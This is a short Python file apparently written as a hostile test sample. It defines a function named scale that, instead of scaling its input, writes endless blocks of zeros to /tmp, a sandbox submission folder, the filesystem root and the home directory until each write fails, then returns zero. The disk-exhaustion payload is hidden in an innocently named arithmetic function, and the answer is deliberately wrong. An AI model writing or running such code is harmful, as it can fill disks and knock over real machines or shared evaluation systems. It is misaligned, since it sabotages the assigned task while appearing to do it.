"""Fills every writable place it finds, then answers wrong."""
import os


def scale(x, factor):
    for target in ("/tmp/fill", "/sandbox/submission/fill", "/fill", os.path.expanduser("~/fill")):
        try:
            with open(target, "wb") as f:
                while True:
                    f.write(b"\0" * (1 << 20))
        except OSError as e:
            print(f"{target}: {type(e).__name__}")
    return x * 0
